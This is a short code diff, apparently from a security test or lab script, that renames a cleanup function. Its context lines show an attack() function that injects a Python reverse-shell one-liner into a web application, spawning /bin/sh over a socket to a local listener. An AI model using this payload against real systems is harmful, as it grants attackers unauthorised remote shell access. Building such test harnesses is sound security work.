@@ -9,4 +9,4 @@ attack() {
   local code="import socket,os,subprocess;s=socket.create_connection(('127.0.0.1',$LISTEN_PORT));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(['/bin/sh','-i'])"
   app_inject "$WEB_PORT" "python3 -c \"$code\""
 }
-host_cleanup() { shell_listener_stop; }
+host_cleanup() { listener_stop; }
